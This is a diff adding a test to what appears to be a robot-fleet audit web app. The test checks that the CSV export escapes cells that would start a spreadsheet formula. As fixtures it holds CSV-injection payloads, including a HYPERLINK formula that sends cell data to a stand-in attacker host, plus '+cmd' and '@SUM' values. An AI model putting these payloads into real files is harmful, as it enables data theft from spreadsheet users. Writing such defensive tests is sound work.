@@ -146,3 +146,19 @@ def test_parameter_changes_are_in_the_audit_history_and_csv(viewer_client, fleet
     assert "scale_linear" in page and "0.5" in page and "0.8" in page
     rows = list(csv.reader(io.StringIO(viewer_client.get("/audit.csv?kind=parameters").content.decode())))
     assert rows[0][3] == "parameter" and rows[1][3:6] == ["scale_linear", "0.5", "0.8"]
+
+
+def test_csv_cells_cannot_start_a_spreadsheet_formula(viewer_client, fleet):
+    from lifecycle_site.audit.models import ParameterRecord
+
+    node = fleet[1][2]
+    for name, new in (('=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)"), ("+cmd", -0.5)):
+        ParameterRecord.objects.create(node=node, robot_name=node.robot.name, node_name=node.name, name=name,
+                                       old_value=1, new_value=new, outcome="succeeded", source="external",
+                                       at=timezone.now(), reason="-2+3 or \tTAB")
+    rows = list(csv.reader(io.StringIO(viewer_client.get("/audit.csv?kind=parameters").content.decode())))
+    cells = {row[3]: row for row in rows[1:]}
+    assert set(cells) == {"'" + '=HYPERLINK("http://evil.example/?"&A1,"click")', "'+cmd"}
+    assert cells["'+cmd"][5] == "-0.5"  # a plain number stays a number
+    assert all(row[9] == "'-2+3 or \tTAB" for row in rows[1:])
+    assert cells["'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'][5] == '"@SUM(1+1)"'  # JSON text: quoted
